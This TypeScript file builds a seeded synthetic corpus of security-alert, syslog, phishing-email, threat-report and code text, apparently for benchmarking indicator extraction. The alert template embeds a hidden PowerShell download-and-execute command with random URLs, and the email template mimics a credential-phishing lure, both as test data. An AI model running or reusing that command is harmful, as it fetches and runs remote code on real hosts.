/**
 * A deterministic (fixed-seed) benchmark corpus of realistic SOC input: JSON SIEM alerts, syslog
 * batches, phishing mail, defanged threat-report prose and code snippets full of `::` and dotted
 * identifiers (the usual false-positive traps). Same seed → byte-identical corpus on every machine,
 * so throughput numbers are comparable across runs.
 */

/** mulberry32: tiny, fast, good enough for generating text. */
export function rng(seed: number): () => number {
  var a = seed >>> 0;
  return function () {
    a = (a + 0x6d2b79f5) >>> 0;
    var t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface CorpusDoc {
  kind: 'alert' | 'syslog' | 'email' | 'report' | 'code';
  text: string;
}

var WORDS = 'the a of to and in is was for on with as by at from this that actor payload stage loader beacon observed traffic campaign infrastructure credential lure document macro persistence scheduled task registry key victim host network server domain request response user account login failed success blocked allowed detected quarantined analyst ticket incident escalation'.split(' ');
var TLDS = ['com', 'net', 'org', 'ru', 'cn', 'io', 'xyz', 'top', 'info', 'biz', 'co.uk', 'de', 'online', 'site', 'club'];
var SYLL = ['sec', 'mail', 'cloud', 'up', 'date', 'micro', 'soft', 'pay', 'pal', 'bank', 'log', 'in', 'cdn', 'srv', 'net', 'web', 'data', 'sync', 'drop', 'box', 'host', 'ex', 'zone', 'api', 'get'];
var PATHS = ['/login.php', '/wp-admin/admin-ajax.php', '/invoice/2024/INV-0042.pdf', '/gate.php?id=', '/download/setup.exe', '/api/v1/beacon', '/s/', '/track?u=', '/update/patch.bin', '/index.html'];
var FILES = ['invoice.pdf', 'setup.exe', 'run.sh', 'report.docx', 'update.js', 'payload.dll', 'readme.txt', 'config.yaml', 'main.py', 'archive.zip'];
var RULES = ['Suspicious PowerShell Download', 'Outbound C2 Beacon', 'Brute Force SSH', 'Phishing URL Clicked', 'Malware Hash Match', 'Impossible Travel', 'DNS Tunneling Suspected'];
var HOSTS = ['WS-0231', 'srv-db-02', 'fw01', 'mail-gw', 'dc01.corp.local', 'laptop-jdoe', 'web-prod-3'];
var USERS = ['jdoe', 'asmith', 'svc_backup', 'administrator', 'mwilson', 'k.tanaka'];

export function generateCorpus(targetBytes: number, seed = 20240611): CorpusDoc[] {
  var r = rng(seed);
  var pick = function <T>(xs: T[]): T {
    return xs[Math.floor(r() * xs.length)];
  };
  var int = function (lo: number, hi: number): number {
    return lo + Math.floor(r() * (hi - lo + 1));
  };
  var hex = function (n: number): string {
    var s = '';
    for (var i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(r() * 16)];
    return s;
  };
  var words = function (n: number): string {
    var out: string[] = [];
    for (var i = 0; i < n; i++) out.push(pick(WORDS));
    return out.join(' ');
  };
  var publicIp = function (): string {
    return int(1, 223) + '.' + int(0, 255) + '.' + int(0, 255) + '.' + int(1, 254);
  };
  var privateIp = function (): string {
    return pick(['10.' + int(0, 255), '192.168', '172.' + int(16, 31)]) + '.' + int(0, 255) + '.' + int(1, 254);
  };
  var ipv6 = function (): string {
    return pick(['2001:db8:', '2a03:2880:', 'fe80::', '2606:4700:']) + hex(4) + ':' + hex(3) + '::' + hex(2);
  };
  var domain = function (): string {
    var label = pick(SYLL) + pick(SYLL) + (r() < 0.3 ? '-' + pick(SYLL) : '') + (r() < 0.2 ? String(int(1, 99)) : '');
    return (r() < 0.4 ? pick(['www', 'login', 'cdn', 'mail', 'secure']) + '.' : '') + label + '.' + pick(TLDS);
  };
  var url = function (): string {
    var p = pick(PATHS);
    return pick(['http', 'https']) + '://' + domain() + p + (p.slice(-1) === '=' ? hex(8) : '');
  };
  var email = function (): string {
    return pick(USERS) + '@' + domain();
  };
  var defang = function (s: string): string {
    var k = r();
    if (k < 0.3) return s.replace(/\./g, '[.]').replace(/^http/, 'hxxp');
    if (k < 0.45) return s.replace(/\./g, '(.)');
    if (k < 0.55) return s.replace(/\./g, '[dot]').replace('@', '[at]');
    if (k < 0.65) return s.replace(/:\/\//, '[://]').replace(/\.(?=[a-z]+$)/, '[.]');
    return s;
  };
  var hash = function (): string {
    return hex(pick([32, 40, 64, 64, 128]));
  };
  var cve = function (): string {
    return 'CVE-' + int(2014, 2025) + '-' + int(1000, 49999);
  };
  var ts = function (): string {
    return '2024-' + String(int(1, 12)).padStart(2, '0') + '-' + String(int(1, 28)).padStart(2, '0') + 'T' + String(int(0, 23)).padStart(2, '0') + ':' + String(int(0, 59)).padStart(2, '0') + ':' + String(int(0, 59)).padStart(2, '0') + 'Z';
  };

  var makers: { [k in CorpusDoc['kind']]: () => string } = {
    alert: function () {
      return JSON.stringify(
        {
          id: hex(16),
          timestamp: ts(),
          rule: { name: pick(RULES), id: int(1000, 9999), severity: pick(['low', 'medium', 'high', 'critical']) },
          src_ip: r() < 0.6 ? publicIp() : privateIp(),
          dst_ip: privateIp(),
          dst_port: pick([22, 53, 80, 443, 445, 3389, 8080]),
          host: { name: pick(HOSTS), os: 'Windows 10.0.19045', agent_version: '8.12.2' },
          user: pick(USERS),
          process: { name: pick(['powershell.exe', 'rundll32.exe', 'cmd.exe', 'curl', 'python3']), cmdline: 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'' + url() + '\')"', sha256: hex(64) },
          file: { name: pick(FILES), md5: hex(32), sha1: hex(40) },
          dns: { question: domain(), answers: [publicIp(), publicIp()] },
          message: words(int(8, 30)) + ' ' + (r() < 0.5 ? defang(url()) : domain()) + ' ' + words(int(5, 15)),
          tags: ['mitre:T' + int(1000, 1600), 'siem:splunk'],
        },
        null,
        r() < 0.5 ? 2 : undefined,
      );
    },
    syslog: function () {
      var lines: string[] = [];
      var n = int(5, 15);
      for (var i = 0; i < n; i++) {
        var k = r();
        var stamp = 'Jun ' + String(int(1, 28)).padStart(2, ' ') + ' ' + String(int(0, 23)).padStart(2, '0') + ':' + String(int(0, 59)).padStart(2, '0') + ':' + String(int(0, 59)).padStart(2, '0');
        if (k < 0.3) lines.push(stamp + ' fw01 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:' + hex(2) + ':' + hex(2) + ':' + hex(2) + ' SRC=' + publicIp() + ' DST=' + privateIp() + ' LEN=60 TOS=0x00 TTL=' + int(30, 128) + ' PROTO=TCP SPT=' + int(1024, 65535) + ' DPT=' + pick([22, 23, 445, 3389]));
        else if (k < 0.55) lines.push(stamp + ' ' + pick(HOSTS) + ' sshd[' + int(100, 99999) + ']: Failed password for ' + (r() < 0.3 ? 'invalid user ' : '') + pick(USERS) + ' from ' + (r() < 0.9 ? publicIp() : ipv6()) + ' port ' + int(1024, 65535) + ' ssh2');
        else if (k < 0.8) lines.push(publicIp() + ' - - [11/Jun/2024:' + String(int(0, 23)).padStart(2, '0') + ':12:01 +0000] "GET ' + pick(PATHS) + ' HTTP/1.1" ' + pick([200, 301, 404, 500]) + ' ' + int(100, 90000) + ' "' + url() + '" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/125.0.6422.142"');
        else lines.push(stamp + ' ' + pick(HOSTS) + ' named[' + int(100, 9999) + ']: client @0x7f' + hex(10) + ' ' + privateIp() + '#' + int(1024, 65535) + ' (' + domain() + '): query: ' + domain() + ' IN A +E(0)K (' + privateIp() + ')');
      }
      return lines.join('\n');
    },
    email: function () {
      var from = email();
      var link = url();
      return [
        'Return-Path: <' + email() + '>',
        'Received: from ' + domain() + ' (' + domain() + ' [' + publicIp() + ']) by mx.example.org with ESMTPS id ' + hex(12) + '; Tue, 11 Jun 2024 09:12:33 +0000',
        'From: "Account Security" <' + from + '>',
        'Reply-To: ' + email(),
        'Subject: Action required: verify your account',
        'Message-ID: <' + hex(20) + '@' + domain() + '>',
        'X-Originating-IP: [' + publicIp() + ']',
        'Authentication-Results: mx.example.org; spf=fail smtp.mailfrom=' + domain() + '; dkim=none',
        '',
        'Dear customer,',
        '',
        'We detected unusual sign-in activity on your account. ' + words(int(10, 25)) + '.',
        'Please verify your identity within 24 hours: ' + link,
        '<a href="' + url() + '">Verify now</a>',
        'If you did not request this, contact ' + email() + '. Attachment: ' + pick(FILES) + ' (sha256 ' + hex(64) + ')',
        '',
        '--',
        'Security Team | ' + domain(),
      ].join('\n');
    },
    report: function () {
      var parts: string[] = [];
      var n = int(4, 10);
      for (var i = 0; i < n; i++) {
        var k = r();
        if (k < 0.25) parts.push('The actor staged the second-stage loader at ' + defang(url()) + ' and rotated C2 between ' + defang(publicIp()) + ' and ' + defang(domain()) + '.');
        else if (k < 0.45) parts.push('Samples (SHA-256): ' + hex(64) + ', ' + hex(64) + '; MD5 ' + hex(32) + '. ' + words(int(5, 15)) + '.');
        else if (k < 0.6) parts.push('Initial access exploited ' + cve() + ' and ' + cve() + ' in unpatched appliances running version ' + int(1, 9) + '.' + int(0, 9) + '.' + int(0, 20) + '.' + int(0, 999) + '.');
        else if (k < 0.75) parts.push('Phishing lures were sent from ' + defang(email()) + ' with ' + pick(FILES) + ' attached; ' + words(int(8, 20)) + '.');
        else parts.push(words(int(15, 40)) + '.');
      }
      return parts.join(' ');
    },
    code: function () {
      return [
        '#include <vector>',
        'std::vector<std::string> hosts = cfg::load("' + pick(FILES) + '");',
        'for (auto& h : hosts) { net::Resolver::resolve(h, std::chrono::seconds(' + int(1, 30) + ')); }',
        'import os.path, logging.handlers',
        'logger = logging.getLogger(__name__)  # module.submodule.Class.method',
        'client = boto3.client("s3"); obj = client.get_object(Bucket="b", Key="' + pick(FILES) + '")',
        'assert version == "' + int(1, 9) + '.' + int(0, 9) + '.' + int(0, 9) + '.' + int(0, 99) + '"',
        'ADDR = "::1"; LINK = "fe80::' + hex(4) + '"; MASK = 0xffffff00',
        'const x = a.b.c.d(e.f); // see ' + (r() < 0.3 ? url() : 'docs/readme.md'),
        'checksum = "' + hash() + '"',
      ].join('\n');
    },
  };
  var mix: CorpusDoc['kind'][] = ['alert', 'alert', 'alert', 'syslog', 'email', 'email', 'report', 'report', 'code'];
  var docs: CorpusDoc[] = [];
  var total = 0;
  while (total < targetBytes) {
    var kind = pick(mix);
    var text = makers[kind]();
    docs.push({ kind: kind, text: text });
    total += Buffer.byteLength(text, 'utf8');
  }
  return docs;
}

export function corpusBytes(docs: CorpusDoc[]): number {
  var n = 0;
  for (var d of docs) n += Buffer.byteLength(d.text, 'utf8');
  return n;
}
